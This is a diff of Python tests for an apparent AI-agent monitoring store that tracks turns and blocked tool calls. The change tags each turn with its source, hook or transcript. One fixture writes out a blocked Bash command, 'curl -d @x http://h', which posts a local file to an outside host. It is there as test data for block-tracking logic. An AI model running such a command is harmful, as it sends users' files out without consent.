@@ -473,7 +473,7 @@ def test_a_note_still_drawn_is_not_a_new_block_after_the_turn_moved_on_and_drawn
     agent = _agent(store)
     note = Observation(AgentState.IDLE, mode="auto", blocked=(Blocked("Bash", "curl -d @x http://h", "Sends x"),))
     _read(store, note, 11.0)
-    store.turn("%1", 12.0, prompt_at=500.0)  # the transcript, read late, dates a turn after the note was seen
+    store.turn("%1", 12.0, prompt_at=500.0, by="transcript")  # the transcript, read late, dates a turn after the note was seen
     _read(store, note, 13.0)
     assert len(agent.blocks) == 1
     _read(store, Observation(AgentState.WORKING, mode="auto"), 14.0)  # a new prompt: the note is gone
@@ -484,11 +484,11 @@ def test_a_note_still_drawn_is_not_a_new_block_after_the_turn_moved_on_and_drawn
 def test_one_prompt_told_by_the_hook_and_by_the_transcript_is_one_turn():
     store = AgentStore()
     agent = _agent(store)
-    store.turn("%1", 20.0, prompt_at=1000.0)  # UserPromptSubmit
+    store.turn("%1", 20.0, prompt_at=1000.0, by="hook")  # UserPromptSubmit
     store.blocked("%1", (Blocked("Bash", "curl x", "why", 21.0, "hook"),), 21.0)
-    store.turn("%1", 25.0, prompt_at=1000.4)  # the transcript's line for that prompt, read later
+    store.turn("%1", 25.0, prompt_at=1000.4, by="transcript")  # the transcript's line for that prompt, read later
     assert agent.turn_since == 20.0 and len(agent.blocked_this_turn) == 1
-    store.turn("%1", 30.0, prompt_at=1010.0)  # the next prompt
+    store.turn("%1", 30.0, prompt_at=1010.0, by="hook")  # the next prompt
     assert agent.turn_since == 30.0 and agent.blocked_this_turn == ()
 
 
